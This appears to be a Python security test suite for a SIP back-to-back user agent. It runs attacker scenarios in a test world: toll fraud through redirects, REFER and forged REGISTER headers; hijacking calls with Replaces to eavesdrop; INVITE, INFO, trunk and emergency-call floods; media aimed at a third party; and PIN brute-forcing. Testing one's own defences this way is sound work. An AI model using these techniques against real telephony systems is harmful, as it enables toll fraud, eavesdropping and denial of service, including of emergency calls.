"""Attackers with a password: one phone's, or a read-only token. None of them has an outbound route."""

import contextlib
import json
import re
import stat
import threading
import time
import urllib.error
import urllib.request

import sip
import world as worlds
from attack import attack, ears, talk


# Targets that were not followed: a counter, and next hops of dialogs.
LED = ('b2b_abuse_total{kind="not_followed"}', 'b2b_sip_next_hops_total{result="')

UNNAMED = ('b2b_alarms{alarm="proxy_not_named"}',)


def dear():
    """A number that is billed to the party found to call it, recognised in the carrier's log."""
    return f"{worlds.DEAR}{sip.fresh('')[:8]}"


def billed(world, number, who="carrier"):
    return len([it for it in world.carrier_saw(number, who) if it["method"] == "INVITE"])


def pair(one, world, stack):
    """Two registered phones of the attacker."""
    caller, callee = (stack.enter_context(one.attacker(world, n)) for n in (0, 1))
    for phone in (caller, callee):
        status = phone.register()
        if status != 200:
            raise RuntimeError(f"{phone.user} is not registered: {status}")
    return caller, callee


@attack("redirect", "H1 a", "a user's phone answers 300, 301, 302 or 305 with the carrier's address",
        counters=LED)
def redirect(one, world):
    """A number without a route for this user, with every host that could be meant."""
    carrier, nobody = f"{world.at(80)}:5060", f"{world.at(91)}:5060"
    hosts = [(302, carrier), (300, carrier), (301, carrier), (305, carrier), (302, nobody), (302, worlds.DOMAIN),
             (302, f"{carrier};transport=tcp"), (302, f"{world.at(1)};maddr={world.at(80)}"), (302, "")]
    with contextlib.ExitStack() as stack:
        caller, callee = pair(one, world, stack)
        taken = []
        for status, host in hosts:
            number = dear()
            uri = f"sip:{number}@{host}" if host else f"tel:{number}"
            callee.on_invite = lambda phone, invite: phone.reply(invite, status, "Elsewhere", [("Contact", f"<{uri}>")])
            caller.call(one.number(1)).bye()
            if world.carrier_saw(number) or world.carrier_saw(number, "elsewhere"):
                taken.append(f"{status}{' to an unknown host' if host == nobody else ''}"
                             f"{' by TCP' if 'tcp' in host else ''}{' by maddr' if 'maddr' in host else ''}")
        return taken, f"calls at our cost by {', '.join(taken)}" if taken else "nothing dialled"


def registered_elsewhere(one, world, fields=(), via=None, contact=None):
    """Registers one phone like this, and calls it from the other."""
    number = dear()
    with contextlib.ExitStack() as stack:
        caller = stack.enter_context(one.attacker(world, 0))
        callee = stack.enter_context(one.attacker(world, 1))
        caller.register()
        at = f"{world.at(80)}:5060"
        status = callee.register(fields=[(name, value.format(at=at, number=number)) for name, value in fields], via=via,
                                 contact=(contact or "<sip:{number}@{at}>").format(at=at, number=number))
        caller.call(one.number(1), patience=2).bye()
        got = world.carrier_saw(number)
        callee.register(contact="*", expires=0)
        return bool(got), f"{len(got)} requests for {worlds.DEAR}… at the carrier" if got else f"REGISTER {status}, no call"


@attack("second-via", "H1 b", "REGISTER with a second Via, Contact at the carrier", counters=UNNAMED)
def second_via(one, world):
    return registered_elsewhere(one, world, via=lambda it: [it.via(), "SIP/2.0/UDP 192.0.2.9:5060;branch=z9hG4bKx"])


@attack("path", "H1 c", "REGISTER with a Path that names the carrier", counters=UNNAMED)
def path(one, world):
    return registered_elsewhere(one, world, fields=[("Supported", "path"), ("Path", "<sip:{at};lr>")])


@attack("contact", "H1", "REGISTER with a Contact at the carrier, without other forgeries", held=True)
def contact(one, world):
    return registered_elsewhere(one, world)


@attack("refer", "H1", "REFER to the carrier's address, and to a number without a route", held=True)
def refer(one, world):
    taken, answers = [], []
    for target in ("<sip:{number}@{carrier}:5060>", "<sip:{number}@b2b.example>", "<tel:{number}>"):
        with contextlib.ExitStack() as stack:
            caller, callee = pair(one, world, stack)
            call, number = caller.call(one.number(1)), dear()
            answer = call.send("REFER", [("Refer-To", target.format(number=number, carrier=world.at(80)))])
            answers.append(answer.status if answer else 0)
            time.sleep(0.5)
            if billed(world, number):
                taken.append(target)
            call.bye()
    return taken, f"calls by {taken}" if taken else f"no call (REFER: {answers})"


@attack("dialog", "Found later 1", "the caller's Contact and Record-Route name the carrier")
def dialog(one, world):
    """A callee's re-INVITE and BYE go where the caller says."""
    taken = []
    for way in ("Contact", "Record-Route", "re-INVITE"):
        with contextlib.ExitStack() as stack:
            caller, callee = pair(one, world, stack)
            word, at = sip.fresh("led"), f"{world.at(80)}:5060"
            lead = f"<sip:{word}@{at}>"
            call = caller.call(
                one.number(1), contact=lead if way == "Contact" else None,
                fields=[("Record-Route", f"<sip:{word}@{at};lr>")] if way == "Record-Route" else [],
            )
            other = callee.next_call()
            if call.status != 200 or not other:
                raise RuntimeError(f"no call: {call.status}")
            if way == "re-INVITE":
                call.answer = call.send("INVITE", contact=lead, body=caller.session(), login=False) or call.answer
                call.ack()
            time.sleep(0.2)
            other.bye()
            if not caller.until(lambda: world.carrier_saw(word) or caller.heard("BYE"), 3):
                continue
            if world.carrier_saw(word):
                taken.append(f"{world.carrier_saw(word)[0]['method']} by {way}")
    return taken, f"the carrier received {', '.join(taken)}" if taken else "all requests went to the caller"


def others_call(one, world, stack):
    """Two victims in a call with each other."""
    first, second = (stack.enter_context(one.victim(world, n)) for n in (5, 6))
    for phone in (first, second):
        phone.register()
    hears = stack.enter_context(ears((one.other(world), one.who(5)), (one.other(world), one.who(6))))
    first.media_port, second.media_port = hears[0].port, hears[1].port
    call = first.call(one.number(6))
    other = second.next_call()
    if call.status != 200 or not other:
        raise RuntimeError(f"the victims' call: {call.status}")
    talk(hears[0], call, hears[1], other)
    time.sleep(0.4)
    return call, other, hears


@attack("replaces", "L1", "INVITE with Replaces for a dialog of other users whose identifiers are known", counters=LED)
def replaces(one, world):
    with contextlib.ExitStack() as stack:
        call, other, hears = others_call(one, world, stack)
        thief = stack.enter_context(one.attacker(world, 0))
        thief.register()
        ear, = stack.enter_context(ears((one.source(world), one.who(0))))
        thief.media_port = ear.port
        answers = []
        for of in (call, other):
            field = ("Replaces", f"{of.call_id};to-tag={of.their_tag};from-tag={of.our_tag}")
            taken = thief.call(one.number(6), fields=[field, ("Require", "replaces")])
            answers.append(taken.status)
            if taken.status == 200 and taken.media():
                ear.talk(taken.media())
                time.sleep(1)
                break
        heard = ear.count(one.who(5)) + ear.count(one.who(6))
        for it in (call, other):
            it.bye()
        return heard > 0, f"{heard} packets of the victims heard" if heard else f"refused: {answers}"


@attack("refer-replaces", "Found later 6", "REFER with Replaces for a dialog of other users", counters=LED)
def refer_replaces(one, world):
    with contextlib.ExitStack() as stack:
        call, other, hears = others_call(one, world, stack)
        ear, partner = stack.enter_context(ears((one.source(world), one.who(0)), (one.source(world), one.who(1))))
        caller, callee = pair(one, world, stack)
        caller.media_port, callee.media_port = ear.port, partner.port
        own = caller.call(one.number(1))
        second = callee.next_call()
        talk(ear, own, partner, second)
        ids = f"{other.call_id};to-tag={other.their_tag};from-tag={other.our_tag}"
        quoted = ids.replace(";", "%3B").replace("=", "%3D").replace("@", "%40")
        own.send("REFER", [("Refer-To", f"<sip:{one.number(6)}@{worlds.DOMAIN}?Replaces={quoted}>")])
        time.sleep(1.5)
        heard = sum(it.count(one.who(n)) for it in (ear, partner) for n in (5, 6))
        cut = call.ended.is_set() or other.ended.is_set()
        for it in (own, second, call, other):
            it.bye()
        return heard or cut, f"{heard} packets of a victim heard" if heard else "cut the call" if cut else "refused"


@contextlib.contextmanager
def flood(phone, number, rate):
    """So many INVITEs a second, each with the password."""
    uri = f"sip:{number}@{worlds.DOMAIN}"
    challenge = phone.request("INVITE", uri, login=False, body=phone.session())
    over = threading.Event()

    def calls():
        due, nc = time.monotonic(), 0
        while not over.is_set():
            nc += 1
            proof = sip.credentials(challenge, "INVITE", uri, phone.user, phone.password, nc)
            phone.request("INVITE", uri, fields=[proof], body=phone.session(), wait=False)
            due += 1 / rate
            time.sleep(max(0, due - time.monotonic()))

    thread = threading.Thread(target=calls)
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()


@attack("invite-flood", "M7", "200 INVITE/s from one user; the limit is 80 calls/s",
        counters=('b2b_abuse_total{kind="user_over_rate"}',), timed=True)
def invite_flood(one, world):
    with contextlib.ExitStack() as stack:
        flooder = stack.enter_context(one.attacker(world, 0))
        first, second = (stack.enter_context(one.victim(world, n)) for n in (5, 6))
        for phone in (first, second):
            phone.register()
        refused, tried, why = 0, 0, ""
        with flood(flooder, "6666", 200):
            time.sleep(1)
            end = time.monotonic() + 4
            while time.monotonic() < end:
                call = first.call(one.number(6), patience=2)
                tried += 1
                if call.status == 503:
                    refused, why = refused + 1, f" ({call.answer.first})"
                call.bye()
                time.sleep(0.1)
        return refused, f"{refused} of {tried} calls of another user got 503{why}"


OVER = ('b2b_abuse_total{kind="user_over_rate"}',)


def busy(phone, invite):
    phone.reply(invite, 486, "Busy Here")


# Few enough for attackers on a small machine to exceed; honest users call more often.
FEW = {"limits": ["user_calls_per_s = 4"]}


def led(one, world, lead):
    """How many calls a user leads to in three seconds. `lead(caller, callee, target, go_on)`"""
    with contextlib.ExitStack() as stack:
        caller, callee = pair(one, world, stack)
        target = stack.enter_context(one.attacker(world, 2))
        target.register()
        target.on_invite = busy
        begun = time.monotonic()
        lead(caller, callee, f"sip:{one.number(2)}@{worlds.DOMAIN}", lambda: time.monotonic() < begun + 3)
        took = time.monotonic() - begun
        made = len(target.heard("INVITE"))
        return made > 4 * (took + 2), f"{made} calls in {took:.1f} s"


@attack("refer-flood", "2nd M3", "REFER after REFER in one call: the limit is four calls a second", alone=True, lines=FEW,
        counters=OVER)
def refer_flood(one, world):
    def lead(caller, _, target, go_on):
        call = caller.call(one.number(1))
        while go_on():
            call.send("REFER", [("Refer-To", f"<{target}>")], patience=1)
        call.bye()

    return led(one, world, lead)


@attack("redirect-flood", "2nd M3", "a phone answers each call with 302 and eight targets: the limit is four a second",
        alone=True, lines=FEW, counters=OVER)
def redirect_flood(one, world):
    def lead(caller, callee, target, go_on):
        contacts = ", ".join(f"<{target};n={n}>;q=0.{n}" for n in range(1, 9))
        callee.on_invite = lambda phone, invite: phone.reply(invite, 302, "Elsewhere", [("Contact", contacts)])
        while go_on():
            caller.call(one.number(1), patience=2)

    return led(one, world, lead)


def trunk(one, world, last):
    """The far end of a trunk, which answers every call."""
    return sip.Phone(world.server, world.at(last), "trunk", port=5060)


@attack("trunk-rate", "2nd M2", "one user calls a trunk of five calls a second without end", counters=(
    'b2b_abuse_total{kind="gateway_over_rate"}',), timed=True)
def trunk_rate(one, world):
    with contextlib.ExitStack() as stack:
        far = stack.enter_context(trunk(one, world, 82))
        far.on_invite = busy
        caller, owner = (stack.enter_context(it) for it in (one.attacker(world, 0), one.victim(world, 5)))
        caller.register(), owner.register()
        over = time.monotonic() + 6

        def calls():
            while time.monotonic() < over:
                caller.call("8600", patience=4)

        flood = [threading.Thread(target=calls) for _ in range(24)]
        for it in flood:
            it.start()
        time.sleep(2)
        found = [owner.call("8601", patience=5).status for _ in range(6)]
        for it in flood:
            it.join()
        refused = [it for it in found if it in (500, 503)]
        return len(refused) > 1, f"calls of another user: {found}"


@attack("trunk-channels", "2nd M2", "one user holds the channels of a trunk", timed=True)
def trunk_channels(one, world):
    with contextlib.ExitStack() as stack:
        stack.enter_context(trunk(one, world, 83))
        caller, owner = (stack.enter_context(it) for it in (one.attacker(world, 0), one.victim(world, 5)))
        caller.register(), owner.register()
        up = [it for it in (caller.call("8700") for _ in range(20)) if it.status == 200]
        call = owner.call("8701")
        for it in (*up, call):
            it.bye()
        return call.status != 200, f"{len(up)} calls of one user; another one's: {call.status}"


@attack("info-flood", "2nd M1", "INFO of 55 KB in fourteen calls of one user", timed=True)
def info_flood(one, world):
    """The Vias come back in the answers, which are kept."""
    with contextlib.ExitStack() as stack:
        caller, callee = pair(one, world, stack)
        owner, other = (stack.enter_context(one.victim(world, n)) for n in (5, 6))
        other.register()
        calls = [caller.call(one.number(1)) for _ in range(14)]
        before = owner.register(patience=4)
        rate, end = (2, 4) if world.together else (20, 6)
        over = time.monotonic() + end
        vias = [f"SIP/2.0/UDP 192.0.2.9;branch=z9hG4bK{'v' * 7_900}"] * 7
        while time.monotonic() < over:
            begun = time.monotonic()
            for call in calls:
                for _ in range(rate):
                    call.send("INFO", wait=False, via=lambda phone: [phone.via(), *vias])
            time.sleep(max(0, 0.25 - (time.monotonic() - begun)))
        second = owner.call(one.number(6), patience=4)
        found = [before, owner.register(patience=4), second.status]
        second.bye()
        for call in calls:
            call.bye(wait=False)
        return 503 in found, f"another user: {found}"


@attack("media-elsewhere", "issue 15 §2", "SDP that names an uninvolved third party: 24 calls of 7 s to an announcement",
        counters=("b2b_media_dropped_total",))
def media_elsewhere(one, world):
    with contextlib.ExitStack() as stack:
        caller = stack.enter_context(one.attacker(world, 0))
        caller.register()
        victim, = stack.enter_context(ears((world.at(90), one.who(9))))
        body = sip.sdp(world.at(90), victim.port)
        up = [it for it in (caller.call("8200", body=body) for _ in range(24)) if it.status == 200]
        time.sleep(7)
        for it in up:
            it.bye(wait=False)
        if not up:
            raise RuntimeError("no call")
        # Two streams for half a minute is what may be sent unasked.
        words = f"{victim.all} packets ({victim.octets // 1000} KB) of {len(up)} calls to the victim"
        return victim.all > 3200, words


def ask(world, path, token=None, timeout=5, headers=()):
    """The response of the HTTP interface: (status, text)."""
    token = world.token if token is None else token
    fields = dict(headers) | ({"Authorization": f"Bearer {token}"} if token else {})
    request = urllib.request.Request(f"http://{world.http}{path}", headers=fields)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


@attack("pin", "M2", "PIN of a room guessed by INFO, call after call", counters=('b2b_alarms{alarm="wrong_pin"}',))
def pin(one, world):
    with one.attacker(world, 0) as caller:
        caller.register()
        wrong, end = 0, time.monotonic() + 60
        while wrong < 9 and time.monotonic() < end:
            call = caller.call("8300")
            for guess in ("0000#", "1111#", "2222#"):
                if call.status == 200 and not call.ended.is_set():
                    call.digits(guess)
                    wrong += 1
                time.sleep(0.3)
            call.bye()
        if wrong < 9:
            raise RuntimeError(f"{wrong} guesses in a minute")
        # A pause may have just ended: then the wrong one is examined. On a slow machine it may end between both, but
        # not twice.
        for _ in range(2):
            call, inside = caller.call("8300"), False
            if call.status == 200:
                call.digits("0000#4711#")
                inside = caller.until(lambda: one.number(0) in ask(world, "/rooms/closed")[1], 3)
                call.bye()
            if not inside:
                break
            caller.until(lambda: one.number(0) not in ask(world, "/rooms/closed")[1], 3)
        return inside, f"{wrong} wrong PINs, then the correct one was " + ("accepted" if inside else "rejected")


@attack("pin-lockout", "2nd M6", "wrong PINs of one user, while the owner enters the right one",
        counters=('b2b_alarms{alarm="wrong_pin"}',))
def pin_lockout(one, world):
    with one.attacker(world, 0) as guesser, one.victim(world, 5) as owner:
        for phone in (guesser, owner):
            phone.register()
        inside = tried = 0
        for _ in range(3):
            for _ in range(3):
                call = guesser.call("8300")
                for guess in ("0000#", "1111#", "2222#"):
                    if call.status == 200 and not call.ended.is_set():
                        call.digits(guess)
                    time.sleep(0.3)
                call.bye()
            call, tried = owner.call("8300"), tried + 1
            if call.status == 200:
                call.digits("4711#")
                inside += bool(owner.until(lambda: one.number(5) in ask(world, "/rooms/closed")[1], 3))
            call.bye()
        return inside < tried, f"the owner got in {inside} of {tried} times"


@attack("emergency-flood", "2nd H2", "60 emergency calls a second from one user; another user makes one",
        lines={"emergency": [f'numbers = ["{worlds.HELP}"]', 'gateways = ["services"]']},
        counters=('b2b_abuse_total{kind="user_over_rate"}',), timed=True)
def emergency_flood(one, world):
    with contextlib.ExitStack() as stack:
        flooder, caller = stack.enter_context(one.attacker(world, 0)), stack.enter_context(one.victim(world, 5))
        caller.register()
        with flood(flooder, worlds.HELP, 60):
            time.sleep(2)
            reached, answers = 0, []
            for _ in range(3):
                call = caller.call(worlds.HELP, patience=5)
                answers.append(call.status)
                reached += call.status == 200
                call.bye()
                time.sleep(1)
        return reached < 3, f"{reached} of 3 emergency calls of another user were answered: {answers}"


@attack("key-reader", "M3", "a token with the scope `read` sees the PIN that a caller presses")
def key_reader(one, world):
    with one.victim(world, 5) as victim:
        victim.register()
        call = victim.call("8300")
        call.digits("4711#")
        time.sleep(0.5)
        listed = json.loads(ask(world, "/calls", world.reader)[1])
        text = "".join(ask(world, f"/calls/{it['call']}?format=text", world.reader)[1] for it in listed["calls"])
        # As pressed keys, and in the bodies of INFO.
        told = ["".join(re.findall(how, text)) for how in (r"digit:? +(\S) INFO", r"Signal=(\S)")]
        call.bye()
        seen = max(told, key=len)
        return "4711" in "".join(told), f"digits {seen!r} in the account of the call" if seen else "no digit is disclosed"


@attack("files", "L2", "another user of the machine reads the SIP trace and the call records")
def files(one, world):
    with one.victim(world, 5) as victim:
        victim.register()
        victim.call("8200").bye()
    time.sleep(1)
    modes = {}
    for name in ("trace.txt", "cdr.jsonl"):
        with contextlib.suppress(OSError):
            modes[name] = stat.S_IMODE((world.folder / name).stat().st_mode)
    readable = [f"{name} {mode:04o}" for name, mode in modes.items() if mode & 0o077]
    return readable, ", ".join(readable) or ", ".join(f"{name} {mode:04o}" for name, mode in modes.items())
